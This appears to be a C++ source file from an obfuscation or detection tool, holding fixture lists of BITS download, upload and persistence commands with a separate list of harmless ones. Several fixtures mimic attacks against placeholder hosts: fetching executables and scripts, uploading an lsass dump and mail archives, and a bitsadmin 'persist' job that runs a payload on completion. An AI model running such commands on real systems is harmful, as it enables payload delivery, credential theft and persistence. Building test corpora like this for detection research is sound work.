#include "plain_command.h"

#include <array>
#include <string_view>

namespace obfuscator {
namespace {

constexpr auto kCmdlet = PlainCommand::Kind::cmdlet;
constexpr auto kProgram = PlainCommand::Kind::program;

PlainCommand start(std::vector<Parameter> parameters) {
  return {kCmdlet, "Start-BitsTransfer", std::move(parameters)};
}

PlainCommand piped(std::string from, std::string name, std::vector<Parameter> parameters) {
  return {kCmdlet, std::move(name), std::move(parameters), std::move(from)};
}

PlainCommand bitsadmin(const std::vector<std::string>& words) {
  PlainCommand command{kProgram, "bitsadmin", {}};
  for (const std::string& word : words) command.parameters.push_back({"", {word}});
  return command;
}

std::vector<PlainCommand> make_downloads() {
  return {
      start({{"Source", {"http://files.example.com/tool.exe"}},
             {"Destination", {"C:\\Users\\Public\\tool.exe"}}}),
      start({{"Source", {"https://cdn.example.net/pkg/update.msi"}},
             {"Destination", {"C:\\ProgramData\\update.msi"}},
             {"TransferType", {"Download"}}}),
      start({{"", {"http://203.0.113.7/a.dll"}}, {"", {"C:\\Windows\\Temp\\a.dll"}}}),
      start({{"", {"https://get.example.org/x.ps1"}}, {"", {"C:\\PerfLogs\\x.ps1"}}}),
      start({{"Source", {"http://198.51.100.23:8080/stage/two.bin"}},
             {"Destination", {"\\two.bin"}, "TEMP"}}),
      start({{"Source", {"https://download.example.com/setup.exe"}},
             {"Destination", {"\\setup.exe"}, "PUBLIC"},
             {"Asynchronous", {}}}),
      start({{"Destination", {"C:\\Tools\\n.zip"}}, {"", {"https://www.example.com/n.zip"}}}),
      start({{"Source", {"https://a.example.com/1.cab", "https://a.example.com/2.cab"}},
             {"Destination", {"C:\\Data\\1.cab", "C:\\Data\\2.cab"}}}),
      start({{"Source", {"https://repo.example.org/v2/agent.zip"}},
             {"Destination", {"C:\\Program Files\\Agent\\agent.zip"}},
             {"Priority", {"High"}},
             {"DisplayName", {"Agent update"}}}),
      start({{"Source", {"http://192.0.2.44/b64.txt"}},
             {"Destination", {"C:\\Users\\Public\\Libraries\\b64.txt"}},
             {"Priority", {"Low"}},
             {"RetryInterval", {"60"}}}),
      start({{"Source", {"https://cdn.example.com/p?id=7&k=abc"}},
             {"Destination", {"C:\\Users\\Public\\p.hta"}}}),
      start({{"Source", {"http://[2001:db8::7]/six.exe"}}, {"Destination", {"C:\\six.exe"}}}),
      start({{"Source", {"\\\\files.corp.example\\share\\image.iso"}},
             {"Destination", {"D:\\Images\\image.iso"}}}),
      start({{"Source", {"https://images.example.com/it's.png"}},
             {"Destination", {"C:\\Users\\Public\\Pictures\\it's.png"}}}),
      start({{"Source", {"https://dav.example.com/s.vbs"}},
             {"Destination", {"C:\\Users\\Public\\s.vbs"}},
             {"TransferType", {"Download"}},
             {"Suspended", {}},
             {"Description", {"Font download"}}}),
      start({{"Source", {"http://3405803783/q.exe"}}, {"Destination", {"C:\\q.exe"}}}),
      start({{"Source", {"https://mirror.example.net/iso/win.iso"}}}),
      start({{"Source", {"https://cdn.example.com/s.bin"}},
             {"Destination", {"C:\\s.bin"}},
             {"ProxyUsage", {"Override"}},
             {"ProxyList", {"http://proxy.example:3128"}}}),
      start({{"Source", {"https://hook.example.com/n.txt"}},
             {"Destination", {"C:\\n.txt"}},
             {"NotifyCmdLine", {"C:\\Windows\\System32\\notepad.exe"}},
             {"NotifyFlags", {"3"}}}),
      start({{"Source", {"https://cost.example.com/big.vhdx"}},
             {"Destination", {"E:\\big.vhdx"}},
             {"TransferPolicy", {"Unrestricted"}},
             {"RetryTimeout", {"3600"}}}),
  };
}

std::vector<PlainCommand> make_uploads() {
  return {
      start({{"Source", {"C:\\Users\\Public\\data.zip"}},
             {"Destination", {"https://drop.example.com/in/data.zip"}},
             {"TransferType", {"Upload"}}}),
      start({{"Source", {"C:\\Windows\\Temp\\lsass.dmp"}},
             {"Destination", {"http://198.51.100.5:8443/u/l"}},
             {"TransferType", {"Upload"}},
             {"Priority", {"Foreground"}}}),
      start({{"Source", {"C:\\Data\\req.xml"}},
             {"Destination", {"https://api.example.org/bits/req"}},
             {"TransferType", {"UploadReply"}}}),
      start({{"Source", {"C:\\Exfil\\archive.7z"}},
             {"Destination", {"\\\\203.0.113.9\\drop\\archive.7z"}}}),
      start({{"Source", {"\\out.rar"}, "TEMP"},
             {"Destination", {"https://up.example.net/out.rar"}},
             {"TransferType", {"Upload"}},
             {"Asynchronous", {}},
             {"DisplayName", {"Backup"}}}),
      start({{"", {"C:\\Users\\Public\\mail.pst"}},
             {"", {"https://x.example.com/mail.pst"}},
             {"TransferType", {"Upload"}}}),
  };
}

std::vector<PlainCommand> make_others() {
  return {
      piped("Get-BitsTransfer -Name Updater | ", "Add-BitsFile",
            {{"Source", {"http://files.example.com/two.exe"}},
             {"Destination", {"C:\\Users\\Public\\two.exe"}}}),
      piped("Get-BitsTransfer -Name Updater | ", "Resume-BitsTransfer", {{"Asynchronous", {}}}),
      piped("Get-BitsTransfer | ", "Complete-BitsTransfer", {}),
      piped("Get-BitsTransfer -Name Updater | ", "Set-BitsTransfer",
            {{"NotifyCmdLine", {"C:\\Users\\Public\\run.cmd"}}, {"Priority", {"High"}}}),
      bitsadmin({"/transfer", "job7", "/download", "/priority", "normal",
                 "http://files.example.com/a.exe", "C:\\Users\\Public\\a.exe"}),
      bitsadmin({"/transfer", "Troll", "https://cdn.example.net/r/x.dll", "C:\\Temp\\x.dll"}),
      bitsadmin({"/transfer", "up", "/upload", "/priority", "foreground",
                 "https://drop.example.com/b.zip", "C:\\Users\\Public\\b.zip"}),
      bitsadmin({"/create", "persist"}),
      bitsadmin({"/addfile", "persist", "http://203.0.113.80/p.exe", "C:\\ProgramData\\p.exe"}),
      bitsadmin({"/SetNotifyCmdLine", "persist", "C:\\ProgramData\\p.exe", "NULL"}),
      bitsadmin({"/resume", "persist"}),
      bitsadmin({"/complete", "persist"}),
      bitsadmin({"/rawreturn", "/transfer", "two words", "/download",
                 "https://www.example.com/w.txt", "C:\\Program Files\\w.txt"}),
      bitsadmin({"/setminretrydelay", "persist", "60"}),
  };
}

std::vector<PlainCommand> make_commands() {
  std::vector<PlainCommand> commands = make_downloads();
  for (PlainCommand& command : make_uploads()) commands.push_back(std::move(command));
  for (PlainCommand& command : make_others()) commands.push_back(std::move(command));
  return commands;
}

std::vector<PlainCommand> make_harmless() {
  const std::string told =
      "Start-BitsTransfer -Source http://files.example.com/a -Destination C:\\a";
  return {
      piped("", "Get-BitsTransfer", {{"AllUsers", {}}}),
      piped("", "Get-BitsTransfer", {{"Name", {"Updater"}}}),
      piped("Get-BitsTransfer -Name Updater | ", "Remove-BitsTransfer", {}),
      piped("Get-BitsTransfer | ", "Suspend-BitsTransfer", {}),
      piped("", "Get-Help", {{"", {"Start-BitsTransfer"}}}),
      piped("", "Get-Command", {{"Name", {"Start-BitsTransfer"}}}),
      piped("", "Import-Module", {{"", {"BitsTransfer"}}}),
      piped("", "Write-Host", {{"", {told}}}),
      piped("", "Write-Output", {{"InputObject", {told}}}),
      piped("", "Set-Content", {{"Path", {"C:\\get.ps1"}}, {"Value", {told}}}),
      piped("", "Select-String", {{"Path", {"C:\\s\\a.ps1"}}, {"Pattern", {"Start-BitsTransfer"}}}),
      piped("", "Start-Process",
            {{"FilePath", {"notepad.exe"}}, {"ArgumentList", {"C:\\Start-BitsTransfer.ps1"}}}),
      piped("", "Invoke-WebRequest",
            {{"Uri", {"https://get.example.com/bits/i.msi"}}, {"OutFile", {"\\i.msi"}, "TEMP"}}),
      piped("", "Copy-Item",
            {{"", {"C:\\data.zip"}}, {"", {"\\\\files.corp.example\\s\\data.zip"}}}),
      piped("", "Restart-Service", {{"Name", {"BITS"}}, {"Force", {}}}),
      bitsadmin({"/list", "/allusers", "/verbose"}),
      bitsadmin({"/info", "persist"}),
      bitsadmin({"/cancel", "persist"}),
      bitsadmin({"/util", "/version"}),
  };
}

bool is_bare(std::string_view value) {
  if (value.empty() || value.front() == '-') return false;
  return value.find_first_of(" \t&|;,(){}[]'\"`$@#<>") == std::string_view::npos;
}

std::string plain_value(const Parameter& parameter, std::size_t index, PlainCommand::Kind kind) {
  const std::string& value = parameter.values[index];
  if (index == 0 && !parameter.folder.empty()) return "$env:" + parameter.folder + value;
  if (is_bare(value)) return value;
  if (kind == kProgram) return '"' + value + '"';
  std::string quoted = "'";
  for (char c : value) quoted.append(c == '\'' ? 2 : 1, c);
  return quoted + '\'';
}

}  // namespace

std::string PlainCommand::script() const {
  std::string text = piped_from + name;
  for (const Parameter& parameter : parameters) {
    if (!parameter.name.empty()) text += " -" + parameter.name;
    for (std::size_t i = 0; i < parameter.values.size(); ++i) {
      text += (i == 0 ? ' ' : ',') + plain_value(parameter, i, kind);
    }
  }
  return text;
}

std::vector<std::string> PlainCommand::flat() const {
  std::vector<std::string> words;
  for (const Parameter& parameter : parameters) {
    if (!parameter.name.empty()) words.push_back('-' + parameter.name);
    for (std::size_t i = 0; i < parameter.values.size(); ++i) {
      const bool in_folder = i == 0 && !parameter.folder.empty();
      words.push_back((in_folder ? '%' + parameter.folder + '%' : "") + parameter.values[i]);
    }
  }
  return words;
}

std::span<const PlainCommand> plain_commands() {
  static const std::vector<PlainCommand> commands = make_commands();
  return commands;
}

std::span<const PlainCommand> harmless_commands() {
  static const std::vector<PlainCommand> commands = make_harmless();
  return commands;
}

}  // namespace obfuscator
